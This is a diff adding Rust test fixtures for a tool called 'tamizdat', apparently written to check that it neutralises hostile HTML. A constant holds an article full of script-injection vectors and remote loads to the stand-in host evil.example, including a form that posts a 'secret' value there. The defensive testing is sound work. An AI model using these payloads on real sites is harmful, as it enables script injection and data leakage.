@@ -1,0 +1,163 @@
+//! Fixtures for the library tests: the demo edition with a hostile article added, packed,
+//! and a running `tamizdat serve`.
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+
+use super::*;
+
+/// An article that tries everything a page must never do: run script (five ways), load from
+/// other hosts (images, CSS url() and @import, fonts, media, frames, objects), hint the browser
+/// to prefetch or preconnect, refresh to another site, rebase its links, post a form away.
+/// Every attempt would set `window.tamizdatPwned` or reach `evil.example`.
+pub const HOSTILE_ARTICLE: &str = r#"<!DOCTYPE html>
+<html lang="en">
+<head>
+<meta charset="utf-8">
+<title>Hostile test article</title>
+<base href="http://evil.example/base/">
+<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
+<link rel="stylesheet" href="http://evil.example/style.css">
+<link rel="prefetch" href="http://evil.example/prefetch">
+<link rel="dns-prefetch" href="//dns-prefetch.evil.example">
+<link rel="preconnect" href="http://preconnect.evil.example">
+<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/background.png); } @font-face { font-family: x; src: url(http://evil.example/font.woff2); }</style>
+<script>window.tamizdatPwned = "a script in the head ran";</script>
+</head>
+<body>
+<h1>Hostile test article</h1>
+<p onmouseover="window.tamizdatPwned = 'an event handler ran'" style="background-image: url(http://evil.example/inline.png)">Text the reader should still see.</p>
+<img src="http://evil.example/remote.png" alt="A remote picture">
+<img src="not-an-image.png" onerror="window.tamizdatPwned = 'onerror ran'" alt="broken on purpose">
+<svg><script>window.tamizdatPwned = "a script inside svg ran";</script></svg>
+<p><a href="javascript:window.tamizdatPwned='a javascript: link ran'">A javascript link</a> and <a href="https://evil.example/story">a link to another site</a>.</p>
+<form action="http://evil.example/post" method="post"><input name="q" value="secret"><button>Send</button></form>
+<iframe src="http://evil.example/frame"></iframe>
+<object data="http://evil.example/object"></object>
+<video src="http://evil.example/video.mp4" autoplay muted></video>
+<audio src="http://evil.example/audio.mp3" autoplay></audio>
+<img srcset="http://evil.example/srcset.png 2x" src="images/local.png" alt="A local picture">
+<script>window.tamizdatPwned = "a script in the body ran";</script>
+</body>
+</html>
+"#;
+
+/// The demo edition plus `hostile/article.html` and the files it references.
+pub fn demo_with_hostile_article(root: &Path) {
+    copy_tree(&example_edition(), root);
+    write_file(root, "hostile/article.html", HOSTILE_ARTICLE.as_bytes());
+    write_file(
+        root,
+        "hostile/not-an-image.png",
+        b"these bytes are not a PNG",
+    );
+    // A real 1x1 PNG.
+    let png = data_encoding::BASE64
+        .decode(b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==")
+        .unwrap();
+    write_file(root, "hostile/images/local.png", &png);
+}
+
+/// Packs `edition` with the demo key (remote references allowed: the hostile article has
+/// them on purpose) into `out`.
+pub fn pack_demo(edition: &Path, key: &Key, out: &Path) {
+    pack(edition, key, out, &["--allow-remote"]).expect_code(0);
+}
+
+/// A `tamizdat serve` child, killed when dropped.
+pub struct Served {
+    child: Child,
+    pub address: SocketAddr,
+}
+
+impl Drop for Served {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+pub fn serve(library: &Path, home: &Path) -> Served {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_tamizdat"))
+        .arg("serve")
+        .arg("--library")
+        .arg(library)
+        .env("TAMIZDAT_HOME", home)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .expect("start tamizdat serve");
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    let address = line
+        .split("http://")
+        .nth(1)
+        .and_then(|rest| rest.split('/').next())
+        .and_then(|address| address.parse().ok())
+        .unwrap_or_else(|| panic!("serve printed no address: {line:?}"));
+    Served { child, address }
+}
+
+/// A raw HTTP/1.1 exchange, so tests can send exactly the Host and path an attacker would.
+pub struct Reply {
+    pub status: u16,
+    pub headers: Vec<(String, String)>,
+    pub body: Vec<u8>,
+}
+
+impl Reply {
+    pub fn header(&self, name: &str) -> Option<&str> {
+        self.headers
+            .iter()
+            .find(|(n, _)| n.eq_ignore_ascii_case(name))
+            .map(|(_, v)| v.as_str())
+    }
+}
+
+pub fn request(address: SocketAddr, method: &str, path: &str, host: &str) -> Reply {
+    let mut stream = TcpStream::connect(address).unwrap();
+    write!(
+        stream,
+        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"
+    )
+    .unwrap();
+    let mut raw = Vec::new();
+    stream.read_to_end(&mut raw).unwrap();
+    let split = raw
+        .windows(4)
+        .position(|w| w == b"\r\n\r\n")
+        .expect("a complete response head");
+    let head = String::from_utf8_lossy(&raw[..split]).into_owned();
+    let mut lines = head.lines();
+    let status = lines
+        .next()
+        .and_then(|l| l.split_whitespace().nth(1))
+        .and_then(|s| s.parse().ok())
+        .expect("a status line");
+    let headers = lines
+        .filter_map(|l| l.split_once(':'))
+        .map(|(n, v)| (n.trim().to_string(), v.trim().to_string()))
+        .collect();
+    Reply {
+        status,
+        headers,
+        body: raw[split + 4..].to_vec(),
+    }
+}
+
+/// Every page of a library (front page and everything under `read/`).
+pub fn pages_of(library: &Path) -> Vec<PathBuf> {
+    let mut pages = vec![library.join("index.html")];
+    for entry in walkdir::WalkDir::new(library.join("read")) {
+        let entry = entry.unwrap();
+        if entry.file_type().is_file() {
+            pages.push(entry.into_path());
+        }
+    }
+    pages
+}
